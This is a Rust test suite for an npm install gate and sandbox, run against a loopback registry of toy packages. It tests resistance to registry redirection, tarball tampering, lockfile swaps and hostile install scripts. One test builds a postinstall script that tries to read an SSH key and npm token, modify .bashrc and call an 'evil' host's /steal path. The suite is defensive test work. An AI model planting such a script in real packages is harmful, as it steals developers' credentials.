//! The real npm and npx in the closed world of a plan, against a registry on the loopback with toy packages.

use std::path::Path;
use std::process::Command;

use serde_json::json;
use tidewaiter::enforce::gateway::{Gateway, View};
use tidewaiter::enforce::sandbox::{self, Confined};
use tidewaiter::enforce::{self, EnforceError, Job, Limits, Outcome, Sandbox, Step, Uncontained};

use crate::support::loopback::{Fault, Loopback};
use crate::support::rig;

const OLD: &str = "2020-01-01T00:00:00Z";

/// A home, a project and a registry of npm packages.
pub(crate) struct Rig(rig::Rig);

impl std::ops::Deref for Rig {
    type Target = rig::Rig;

    fn deref(&self) -> &rig::Rig {
        &self.0
    }
}

/// `None`, said, where there is no npm.
pub(crate) fn rig() -> Option<Rig> {
    let there = Command::new("npm").arg("--version").output().is_ok_and(|o| o.status.success());
    if !there {
        eprintln!("skipped: there is no npm here");
        return None;
    }
    let mut rig = rig::Rig::empty();
    let none = rig.work().join("../none").display().to_string();
    rig.set("npm_config_globalconfig", &none).set("npm_config_loglevel", "error");
    rig.write("../home/.npmrc", &format!("registry={}\nupdate-notifier=false\nfund=false\n", rig.server.npm_url()));
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    Some(Rig(rig))
}

/// A registry with `tw-a`, which needs `tw-b`.
pub(crate) fn with_packages() -> Option<Rig> {
    let rig = rig()?;
    rig.server
        .npm(
            "tw-a",
            "1.0.0",
            OLD,
            json!({"dependencies": {"tw-b": "^1.0.0"}, "license": "MIT", "engines": {"node": ">=8"}}),
        )
        .npm("tw-b", "0.9.0", OLD, json!({}))
        .npm_with("tw-b", "1.0.0", OLD, json!({"main": "index.js"}), &[("index.js", "module.exports = 'b1'\n")]);
    Some(rig)
}

/// Runs steps in the real sandbox, by the program that this package builds.
pub(crate) struct ByEngine;

impl Sandbox for ByEngine {
    fn contain(&self, mut step: Step, limits: &Limits, job: &Job<'_>) -> Result<Step, EnforceError> {
        let mut profile = Confined::profile(limits, job.environment, &job.policy.sandbox);
        profile.namespaces = false;
        step.arguments = sandbox::arguments(&step.program, &step.arguments);
        step.program = env!("CARGO_BIN_EXE_tidewaiter").into();
        let (name, value) = sandbox::variable(&profile);
        step.set(name, value);
        Ok(step)
    }

    fn sentences(&self, _: &Limits) -> Vec<String> {
        Vec::new()
    }
}

impl Rig {
    pub(crate) fn read(&self, path: &str) -> String {
        std::fs::read_to_string(self.work().join(path)).unwrap_or_default()
    }

    pub(crate) fn clean(&self) {
        for path in ["node_modules", "package-lock.json"] {
            let path = self.work().join(path);
            let _ = if path.is_dir() { std::fs::remove_dir_all(path) } else { std::fs::remove_file(path) };
        }
    }

    pub(crate) fn set(&mut self, name: &str, value: &str) {
        self.0.set(name, value);
    }

    pub(crate) fn run(&self, argv: &[&str], between: impl FnOnce(&Self)) -> Outcome {
        self.run_in(argv, &Uncontained, between)
    }

    /// Judges, lets `between` happen, and runs.
    pub(crate) fn run_in(&self, argv: &[&str], sandbox: &dyn Sandbox, between: impl FnOnce(&Self)) -> Outcome {
        self.tried_in(argv, sandbox, between).unwrap()
    }

    /// [`Rig::run_in`], for what may be refused before the tool starts.
    pub(crate) fn tried_in(
        &self,
        argv: &[&str],
        sandbox: &dyn Sandbox,
        between: impl FnOnce(&Self),
    ) -> Result<Outcome, EnforceError> {
        let done = self.with_job_in(argv, sandbox, |job| {
            let plan = &job.judgement.plan;
            assert!(plan.complete(), "{:?}", plan.unresolved);
            between(self);
            enforce::run(job)
        });
        done.outcome
    }
}

pub(crate) fn nothing(_: &Rig) {}

pub(crate) fn lines(outcome: &Outcome) -> Vec<String> {
    outcome.refused.iter().map(enforce::Refused::line).collect()
}

pub(crate) fn exists(path: &Path) -> bool {
    path.symlink_metadata().is_ok()
}

#[test]
fn an_allowed_install_works_and_writes_what_a_bare_one_writes() {
    let Some(rig) = with_packages() else { return };
    let written =
        |rig: &Rig| ["package.json", "package-lock.json", "node_modules/.package-lock.json"].map(|p| rig.read(p));
    let outcome = rig.run(&["npm", "install", "tw-a"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert_eq!(outcome.served.len(), 2, "{outcome:?}");
    let ran = rig.bare(&["node", "-e", "console.log(require('tw-b'), require('tw-a/package.json').version)"]);
    assert_eq!(String::from_utf8_lossy(&ran.stdout), "b1 1.0.0\n", "{ran:?}");
    let gated = written(&rig);
    std::fs::remove_dir_all(rig.work().join("node_modules")).unwrap();
    let outcome = rig.run(&["npm", "ci"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert_eq!(written(&rig), gated);
    rig.clean();
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    let bare = rig.bare(&["npm", "install", "tw-a"]);
    assert!(bare.status.success(), "{bare:?}");
    assert_eq!(written(&rig), gated);
    assert!(gated[1].contains(&format!("{}tw-b/-/tw-b-1.0.0.tgz", rig.server.npm_url())), "{}", gated[1]);
}

#[test]
fn what_changes_between_judging_and_installing_does_not_come_in() {
    type Change = fn(&Rig);
    let tarball = "/npm/tw-b/-/tw-b-1.0.0.tgz";
    let changes: &[(&str, Change, bool)] = &[
        ("a newer version", |r| _ = r.server.npm("tw-b", "1.1.0", OLD, json!({})), true),
        ("other bytes", |r| _ = r.server.raw("/npm/tw-b/-/tw-b-1.0.0.tgz", "x/y", b"other".to_vec()), false),
        ("one bent byte", |r| _ = r.server.always("/npm/tw-b/-/", Fault::BentByte), false),
        ("half of it", |r| _ = r.server.always("/npm/tw-b/-/", Fault::Truncated), false),
        (
            "the same version anew, with its digest",
            |r| _ = r.server.npm("tw-b", "1.0.0", OLD, json!({"dependencies": {"tw-evil": "1"}})),
            false,
        ),
    ];
    for (what, change, installs) in changes {
        let Some(rig) = with_packages() else { return };
        let outcome = rig.run(&["npm", "install", "tw-a"], change);
        assert_eq!(outcome.ended.success(), *installs, "{what}: {outcome:?}");
        if *installs {
            assert!(rig.read("package-lock.json").contains("tw-b-1.0.0.tgz"), "{what}");
        } else {
            assert!(!exists(&rig.work().join("node_modules/tw-b")), "{what}");
            assert!(lines(&outcome).iter().any(|l| l.starts_with("tidewaiter: tw-b")), "{what}: {outcome:?} {tarball}");
        }
    }
}

#[test]
fn files_and_variables_cannot_lead_elsewhere() {
    let evil = Loopback::start();
    evil.npm("tw-a", "9.0.0", OLD, json!({})).npm("tw-b", "9.0.0", OLD, json!({}));
    let Some(mut rig) = with_packages() else { return };
    rig.server.npm("@acme/c", "1.0.0", OLD, json!({}));
    rig.set("NO_PROXY", "*");
    rig.set("NPM_CONFIG_NOPROXY", "*");
    rig.set("NPM_CONFIG_PREFER_OFFLINE", "true");
    let between = |rig: &Rig| {
        let url = evil.npm_url();
        rig.write(
            ".npmrc",
            &format!("registry={url}\n@acme:registry={url}\nreplace-registry-host=never\nproxy={url}\n"),
        );
        rig.write("../home/.npmrc", &format!("registry={url}\nhttps-proxy={url}\n"));
    };
    let registry = format!("--registry={}", rig.server.npm_url());
    let outcome = rig.run(&["npm", "install", "tw-a", &registry, "@acme/c", "--no-audit"], between);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert_eq!(evil.paths(), [""; 0]);
    assert!(exists(&rig.work().join("node_modules/@acme/c/package.json")));
    rig.write(".npmrc", "").write("../home/.npmrc", &format!("registry={}\n", rig.server.npm_url()));
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    // What is not in the plan and not at a registry is asked for at the gateway, which says no.
    rig.clean();
    let manifest = format!(
        "{{\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {{\"tw-x\": \"{}/npm/tw-a/-/tw-a-9.0.0.tgz\"}}}}",
        evil.url
    );
    let outcome = rig.run(&["npm", "install", "tw-a"], |rig| _ = rig.write("package.json", &manifest));
    assert!(!outcome.ended.success(), "{outcome:?}");
    assert_eq!(evil.paths(), [""; 0]);
}

#[test]
fn a_lockfile_written_in_between_brings_nothing_in_from_a_warm_cache() {
    let Some(rig) = with_packages() else { return };
    rig.server.npm(
        "tw-evil",
        "1.0.0",
        OLD,
        json!({"scripts": {"postinstall": "node -e \"require('fs').writeFileSync('../../mark', '')\""}}),
    );
    rig.bare(&["npm", "install", "tw-evil", "--ignore-scripts"]);
    let (manifest, lock) = (rig.read("package.json"), rig.read("package-lock.json"));
    assert!(lock.contains("tw-evil"), "{lock}");
    rig.clean();
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    rig.bare(&["npm", "install", "tw-a", "--package-lock-only"]);
    let outcome = rig.run(&["npm", "ci"], |rig| {
        rig.write("package.json", &manifest).write("package-lock.json", &lock);
    });
    assert_ne!(outcome.ended.status(), 0, "{outcome:?}");
    assert!(lines(&outcome).iter().any(|l| l.starts_with("tidewaiter: tw-evil 1.0.0 ")), "{outcome:?}");
    assert!(!exists(&rig.work().join("mark")));
}

/// The URLs by which npm's cache knows what it keeps.
fn kept_urls(cache: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut directories = vec![cache.join("_cacache").join("index-v5")];
    while let Some(directory) = directories.pop() {
        for path in std::fs::read_dir(directory).into_iter().flatten().map(|e| e.unwrap().path()) {
            if path.is_dir() {
                directories.push(path);
                continue;
            }
            for line in std::fs::read_to_string(path).unwrap().lines().filter_map(|l| l.split_once('\t')) {
                let entry: serde_json::Value = serde_json::from_str(line.1).unwrap();
                out.push(entry["key"].as_str().unwrap().rsplit_once("cache:").unwrap().1.to_owned());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn npms_cache_is_as_without_the_gate() {
    let Some(rig) = with_packages() else { return };
    let cache = rig.work().join("../home/.npm");
    let own = rig.server.npm_url();
    let tarballs = |rig: &Rig| {
        let asked = rig.server.paths().into_iter().filter(|p| p.ends_with(".tgz")).count();
        let urls: Vec<String> = kept_urls(&cache).into_iter().filter(|u| u.ends_with(".tgz")).collect();
        (asked, urls)
    };
    let expected = ["tw-a/-/tw-a-1.0.0.tgz", "tw-b/-/tw-b-1.0.0.tgz"].map(|path| format!("{own}{path}"));
    let outcome = rig.run(&["npm", "install", "tw-a"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    let fetched = tarballs(&rig);
    assert_eq!(fetched.1, expected);
    assert!(kept_urls(&cache).iter().all(|url| url.starts_with(&own)), "{:?}", kept_urls(&cache));
    // With the lockfile, again and without the gate: from the cache, of which there is not more.
    let outcome = rig.run(&["npm", "ci"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert!(outcome.served.is_empty(), "{outcome:?}");
    let bare = rig.bare(&["npm", "ci", "--offline"]);
    assert!(bare.status.success(), "{bare:?}");
    assert_eq!(tarballs(&rig), fetched);
}

/// The lines of npm's own log that say what it asked for.
fn asked_by_npm(cache: &Path) -> Vec<String> {
    let logs = std::fs::read_dir(cache.join("_logs")).into_iter().flatten().map(|e| e.unwrap().path());
    let text: String = logs.map(|path| std::fs::read_to_string(path).unwrap()).collect();
    text.lines().filter(|l| l.contains("http fetch GET")).map(str::to_owned).collect()
}

#[test]
fn what_a_lockfile_names_is_in_npms_cache_before_npm_looks() {
    let Some(rig) = with_packages() else { return };
    let cache = rig.work().join("../home/.npm");
    rig.bare(&["npm", "install", "tw-a", "--package-lock-only"]);
    for path in ["_cacache", "_logs"] {
        std::fs::remove_dir_all(cache.join(path)).unwrap();
    }
    rig.server.clear_log();
    let outcome = rig.run(&["npm", "ci"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert_eq!(outcome.served.len(), 2, "what npm finds there was handed over too: {outcome:?}");
    let tarballs = || rig.server.paths().into_iter().filter(|p| p.ends_with(".tgz")).count();
    assert_eq!(tarballs(), 2, "{:?}", rig.server.paths());
    assert_eq!(asked_by_npm(&cache), [""; 0], "npm asked nobody");
    // npm holds it to be whole, and its own.
    let verified = rig.bare(&["npm", "cache", "verify"]);
    let said = String::from_utf8_lossy(&verified.stdout).into_owned();
    assert!(verified.status.success() && said.contains("Content verified: 2 "), "{verified:?}");
    assert!(!said.contains("arbage-collected") && !said.contains("Corrupted"), "{said}");
    let bare = rig.bare(&["npm", "ci", "--offline"]);
    assert!(bare.status.success(), "{bare:?}");
    // With npm's cache gone, what the gate has kept is enough.
    std::fs::remove_dir_all(cache.join("_cacache")).unwrap();
    let outcome = rig.run(&["npm", "ci"], nothing);
    assert_eq!((outcome.ended.status(), tarballs()), (0, 2), "{outcome:?}");
}

#[test]
fn a_registry_that_stalls_is_not_waited_for() {
    let Some(rig) = with_packages() else { return };
    rig.bare(&["npm", "install", "tw-a", "--package-lock-only"]);
    let done = rig.with_job(&["npm", "ci"], |job| {
        rig.server.always("/npm/tw-b/-/", Fault::Stall);
        let gateway = Gateway::start(job, View::Plan, false)?;
        gateway.settle();
        gateway.settle();
        rig.server.heal();
        drop(gateway);
        enforce::run(job)
    });
    let outcome = done.outcome.unwrap();
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
}

#[test]
fn urls_of_the_public_registry_in_a_lockfile_stand_for_the_configured_one() {
    let Some(rig) = with_packages() else { return };
    rig.bare(&["npm", "install", "tw-a", "--package-lock-only"]);
    let lock = rig.read("package-lock.json").replace(&rig.server.npm_url(), "https://registry.npmjs.org/");
    assert!(lock.contains("https://registry.npmjs.org/tw-b/-/tw-b-1.0.0.tgz"), "{lock}");
    for settings in ["", "replace-registry-host=always\n", "replace-registry-host=registry.npmjs.org\n"] {
        rig.write("package-lock.json", &lock).write(".npmrc", settings);
        std::fs::remove_dir_all(rig.work().join("../home/.npm")).unwrap();
        std::fs::remove_dir_all(rig.cache().join("store")).ok();
        rig.server.clear_log();
        let outcome = rig.run(&["npm", "ci"], nothing);
        assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{settings}: {outcome:?}");
        let fetched = rig.server.paths().into_iter().filter(|p| p.ends_with(".tgz")).count();
        assert_eq!(fetched, 2, "{settings}: {:?}", rig.server.paths());
        assert_eq!(rig.read("package-lock.json"), lock, "{settings}");
        let kept: Vec<String> = kept_urls(&rig.work().join("../home/.npm"));
        assert!(kept.iter().all(|url| url.starts_with(&rig.server.npm_url())), "{settings}: {kept:?}");
    }
}

#[test]
fn an_npm_that_is_offline_finds_only_what_it_has() {
    let Some(rig) = with_packages() else { return };
    rig.bare(&["npm", "install", "tw-a", "--package-lock-only"]);
    for (words, settings) in [(&["npm", "ci", "--offline"][..], ""), (&["npm", "ci"], "offline=true\n")] {
        rig.write(".npmrc", settings);
        let outcome = rig.run(words, nothing);
        assert!(!outcome.ended.success() && outcome.served.is_empty(), "{words:?}: {outcome:?}");
        assert!(!rig.bare(words).status.success(), "as without the gate: {words:?}");
    }
}

#[test]
fn a_lockfile_alone_costs_no_tarball() {
    let Some(rig) = with_packages() else { return };
    let outcome = rig.run(&["npm", "install", "tw-a", "--package-lock-only"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert!(rig.read("package-lock.json").contains("tw-b-1.0.0.tgz"));
    assert!(!rig.server.paths().iter().any(|p| p.ends_with(".tgz")), "{:?}", rig.server.paths());
}

#[test]
fn a_scope_with_a_token_of_its_own() {
    let Some(rig) = with_packages() else { return };
    let private = Loopback::start();
    private.npm("@my_team/x", "1.0.0", OLD, json!({"dependencies": {"tw-b": "1"}}));
    private.password("", "Bearer sesame");
    let host = private.url.strip_prefix("http:").unwrap();
    let config = format!(
        "registry={}\n@my_team:registry={}\n{host}/npm/:_authToken=sesame\n",
        rig.server.npm_url(),
        private.npm_url()
    );
    rig.write("../home/.npmrc", &config);
    let outcome = rig.run(&["npm", "install", "@my_team/x"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    assert!(exists(&rig.work().join("node_modules/@my_team/x/package.json")));
    assert!(private.log().iter().all(|l| l.header("authorization") == Some("Bearer sesame")));
    assert!(rig.server.log().iter().all(|l| l.header("authorization").is_none()), "{:?}", rig.server.log());
    let lock = rig.read("package-lock.json");
    assert!(lock.contains(&format!("{}@my_team/x/-/x-1.0.0.tgz", private.npm_url())), "{lock}");
}

#[test]
fn scripts_run_when_they_were_cleared() {
    let Some(rig) = with_packages() else { return };
    let writes = |name: &str| {
        format!(
            "node -e \"require('fs').writeFileSync('{}/{name}', process.env.npm_config_registry || '')\"",
            rig.work().display()
        )
    };
    let scripts =
        json!({"scripts": {"preinstall": writes("one"), "postinstall": writes("two")}, "dependencies": {"tw-b": "1"}});
    rig.server.npm("tw-s", "1.0.0", OLD, scripts.clone());
    let manifest = json!({"name": "app", "version": "1.0.0", "dependencies": {"tw-s": "1"},
        "scripts": {"prepare": writes("own"), "postprepare": writes("after"), "test": writes("test")}});
    rig.write("package.json", &manifest.to_string());
    let marks = |rig: &Rig| ["one", "two", "own", "after", "test"].map(|m| exists(&rig.work().join(m)));
    rig.write(".npmrc", "ignore-scripts=true\n");
    let outcome = rig.run(&["npm", "install"], nothing);
    assert_eq!(outcome.ended.status(), 0, "{outcome:?}");
    assert_eq!(marks(&rig), [false; 5]);
    rig.write(".npmrc", "");
    let outcome = rig.run(&["npm", "ci"], nothing);
    assert_eq!((outcome.ended.status(), &outcome.said), (0, &vec![]), "{outcome:?}");
    assert_eq!(marks(&rig), [true, true, true, true, false]);
    assert!(!rig.read("two").contains("127.0.0.1") || rig.read("two") == rig.server.npm_url(), "{}", rig.read("two"));
    // The lockfile brings it, and the registry said nothing of scripts when it was judged.
    rig.clean();
    let failing = json!({"scripts": {"postinstall": "exit 7"}});
    rig.server.npm("tw-f", "1.0.0", OLD, failing);
    let outcome = rig.run(&["npm", "install", "tw-f"], nothing);
    assert_ne!(outcome.ended.status(), 0, "a script that fails ends the install: {outcome:?}");
}

#[test]
fn npx_fetches_what_was_cleared_and_runs_it_as_it_would_have_run() {
    let Some(rig) = with_packages() else { return };
    let code = "#!/usr/bin/env node\nrequire('fs').writeFileSync('said', JSON.stringify([process.argv.slice(2), \
                Object.keys(process.env).filter(n => /^npm_config_.*(registry|auth|shell|ignore.scripts)|proxy/i.test(n)), \
                require('tw-b')]))\n";
    rig.server.npm_with(
        "tw-run",
        "1.0.0",
        OLD,
        json!({"bin": "cli.js", "dependencies": {"tw-b": "1"}}),
        &[("cli.js", code)],
    );
    let outcome = rig.run(&["npx", "--yes", "tw-run", "--registry=x", "a b", "it's"], nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{outcome:?}");
    let gated = rig.read("said");
    assert!(gated.starts_with("[[\"--registry=x\",\"a b\",\"it's\"],"), "{gated}");
    let bare = rig.bare(&["npx", "--yes", "tw-run", "--registry=x", "a b", "it's"]);
    assert!(bare.status.success(), "{bare:?}");
    let without = |text: &str| -> Vec<String> {
        let value: serde_json::Value = serde_json::from_str(text).unwrap();
        value[1]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap().to_owned())
            .filter(|n| n != "npm_config_noproxy")
            .collect()
    };
    assert_eq!(without(&rig.read("said")), without(&gated));
}

#[test]
fn a_hostile_script_reaches_nothing() {
    let Some(rig) = with_packages() else { return };
    let available = sandbox::availability_with(Path::new(env!("CARGO_BIN_EXE_tidewaiter")));
    if !available.works() || available.landlock_abi < 4 {
        eprintln!("skipped: {}", available.words().join("; "));
        return;
    }
    rig.write("../home/.ssh/id_ed25519", "PRIVATE").write("../home/.bashrc", "# mine\n");
    let evil = Loopback::start();
    let code = format!(
        "const fs = require('fs'), out = [], t = (n, f) => {{ try {{ f(); out.push(n) }} catch {{}} }};\n\
         t('key', () => fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519'));\n\
         t('token', () => fs.readFileSync(process.env.HOME + '/.npmrc'));\n\
         t('bashrc', () => fs.appendFileSync(process.env.HOME + '/.bashrc', 'x'));\n\
         if (process.env.NPM_TOKEN) out.push('env');\n\
         const done = () => {{ fs.writeFileSync('{}/ran', out.join()); process.exit() }};\n\
         require('http').get('{}/steal', () => {{ out.push('net'); done() }}).on('error', done);\n",
        rig.work().display(),
        evil.url
    );
    let mut rig = rig;
    rig.set("NPM_TOKEN", "PRIVATE");
    rig.server.npm_with(
        "tw-h",
        "1.0.0",
        OLD,
        json!({"scripts": {"postinstall": "node steal.js"}}),
        &[("steal.js", &code)],
    );
    let outcome = rig.run_in(&["npm", "install", "tw-h"], &ByEngine, nothing);
    assert_eq!((outcome.ended.status(), rig.read("ran")), (0, String::new()), "{outcome:?}");
    assert!(exists(&rig.work().join("ran")) && exists(&rig.work().join("node_modules/tw-h/package.json")));
    assert_eq!(evil.paths(), [""; 0]);
    assert_eq!(rig.read("../home/.bashrc"), "# mine\n");
    // Outside it does all of that, so that the attack is one.
    rig.clean();
    rig.write("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
    assert!(rig.bare(&["npm", "install", "tw-h"]).status.success());
    assert_eq!(rig.read("ran"), "key,token,bashrc,env,net");
}
